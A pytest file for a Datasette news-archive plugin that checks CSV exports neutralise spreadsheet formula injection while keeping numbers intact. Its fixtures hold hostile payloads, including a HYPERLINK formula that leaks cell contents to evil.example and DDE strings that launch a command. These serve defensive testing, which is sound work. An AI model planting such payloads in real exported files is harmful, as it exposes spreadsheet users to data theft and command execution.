"""What a reader's spreadsheet runs: no cell of any CSV the archive writes can start a formula (OWASP's
rule, docs/security.md "CSV"), and numbers, negative ones included, stay numbers."""

import csv
import io

import pytest

from datasette_kinhtedothi.archive.csv_cells import FORMULA_SIGNS, NUMBER, RecordRewriter, neutral
from tests.support.datasette import add_article, copy_archive, datasette_for, get

pytestmark = pytest.mark.fast

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")'
DDE = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, "=1+2", DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+33 (0)1 23", "\t=1+2", "\r=1+2",
            "  =1+2", "＝1+2", "-", "- Hà Nội", "=", '"=quoted"', "=x\r\nsecond line"]


def formulas(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet could run: what the rule forbids."""
    found = []
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")):
        for cell in row:
            starts = cell[:1] in ("\t", "\r") or cell.strip()[:1] in tuple(FORMULA_SIGNS)
            if starts and not NUMBER.fullmatch(cell.strip()):
                found.append(cell)
    return found


@pytest.mark.parametrize("cell,expected", [
    (HYPERLINK, "'" + HYPERLINK), ("=1+2", "'=1+2"), (DDE, "'" + DDE), ("@SUM(A1)", "'@SUM(A1)"),
    ("+1-2", "'+1-2"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("  =1", "'  =1"), ("＝1", "'＝1"), ("－1", "'－1"),
    ("-", "'-"), ("- Hà Nội", "'- Hà Nội"), ("-3-4", "'-3-4"), ("-0x1F", "'-0x1F"), ("-inf", "'-inf"),
    # numbers are never formulas: kept, so that ids, counts and sums stay numbers
    ("-3", "-3"), ("+7", "+7"), ("-0.5", "-0.5"), ("-1e5", "-1e5"), (" -3 ", " -3 "), (-3, -3), (None, None),
    # ordinary text, dates, quotes already there
    ("Hà Nội", "Hà Nội"), ("2021-05-20 10:00", "2021-05-20 10:00"), ("'=1", "'=1"), ("", ""), ("  ", "  "),
    ("a=b", "a=b"),
])
def test_a_cell_that_could_start_a_formula_gets_a_quote_and_a_number_does_not(cell, expected):
    assert neutral(cell) == expected
    assert neutral(neutral(cell)) == expected  # once is enough: the quote is not a formula sign


def written(rows: list[list]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)  # the dialect Datasette writes with
    return out.getvalue().encode("utf-8")


def test_the_stream_rewriter_gives_the_same_answer_in_any_chunks():
    rows = [["id", "=title", "body"], [-3, HYPERLINK, 'line one\r\nline "two", =3'], [7, "Hà Nội", ""],
            [8, "a,b", '"=quoted"'], [9, "", "x\ny"], [10, "@a", "-2"]]
    expected = written([[neutral(c) if isinstance(c, str) else c for c in row] for row in rows])
    for size in (1, 2, 3, 7, 64, 10_000):
        source, rewriter, out = written(rows), RecordRewriter(), b""
        for start in range(0, len(source), size):  # splits records, quoted line breaks and UTF-8 sequences
            out += rewriter.feed(source[start:start + size])
        out += rewriter.close()
        assert out == expected, size
    assert not formulas(expected.decode())


# -- the archive's CSV: Datasette's own and the search export ----------------------------------------
@pytest.fixture(scope="module")
def hostile_csv_ds(crawled, tmp_path_factory):
    db = copy_archive(crawled[0], tmp_path_factory.mktemp("csv"))
    add_article(db, -903, title=HYPERLINK, sapo=DDE, body_text="zơlăng bài có công thức", author="@Phóng viên",
                tags=["=1+2", DDE, "@SUM(1)"], section="+Chính trị")
    for i, payload in enumerate(PAYLOADS):
        add_article(db, 990500 + i, title=payload, body_text=f"zơlăng {i}", author=payload, tags=[f"t{i}"])
    return datasette_for(db)


@pytest.mark.parametrize("path,params", [
    ("/archive/articles.csv", {"_search": "zolang"}),
    ("/archive/articles.csv", {"_search": "zolang", "_dl": "1"}),
    ("/archive/articles.csv", {"_stream": "1", "_size": "5"}),
    ("/archive/article_tags.csv", {"article_id": "-903"}),
    ("/archive/articles.csv", {"_search": "zolang", "_labels": "on", "_col": "title"}),
    ("/archive.csv", {"sql": "select title, author, -3 as n, '=1+2' as \"=header\" from articles where id = -903 "
                             "or id >= 990500"}),
    ("/archive/search.csv", {"q": "zolang"}),
])
def test_datasette_csv_of_tables_and_queries_carries_no_formula(hostile_csv_ds, path, params):
    response = get(hostile_csv_ds, path, params=params)
    assert response.status_code == 200, response.text[:500]
    text = response.text
    assert not formulas(text), formulas(text)[:5]
    if "_stream" not in params and "article_tags" not in path:  # the payloads are there, quoted
        assert "'" + HYPERLINK in text or "'" + HYPERLINK.replace('"', '""') in text


def test_a_negative_article_id_stays_a_number_in_datasette_csv(hostile_csv_ds):
    # the crawl archives a story the site gives no id under a negative id (-1, -2, -3 …): a real value
    response = get(hostile_csv_ds, "/archive/articles.csv", params={"id__lt": "0", "_col": "title", "_sort": "id"})
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == ["id", "title"]
    assert rows[1] == ["-903", "'" + HYPERLINK]
    assert [r[0] for r in rows[2:5]] == ["-3", "-2", "-1"]


@pytest.mark.parametrize("bom", [False, True])
def test_the_search_export_carries_no_formula_with_or_without_a_byte_order_mark(hostile_csv_ds, bom):
    params = {"q": "zolang", "sort": "newest", **({"_bom": "1"} if bom else {})}
    response = get(hostile_csv_ds, "/-/export.csv", params=params)
    assert response.status_code == 200
    assert response.text.startswith("\ufeff") == bom
    assert not formulas(response.text), formulas(response.text)[:5]
    rows = {r["archive_id"]: r for r in csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"), newline=""))}
    assert rows["-903"]["headline"] == "'" + HYPERLINK
    assert rows["-903"]["tags"] == "'=1+2; " + DDE + "; @SUM(1)"  # one cell: only its start matters
    assert rows["-903"]["snippet"].startswith("'" + DDE)  # the passage begins with the lead
    assert len(rows) == len(PAYLOADS) + 1


def test_json_keeps_the_text_as_scraped(hostile_csv_ds):
    response = get(hostile_csv_ds, "/archive/articles/-903.json", params={"_shape": "array"})
    assert response.json()[0]["title"] == HYPERLINK
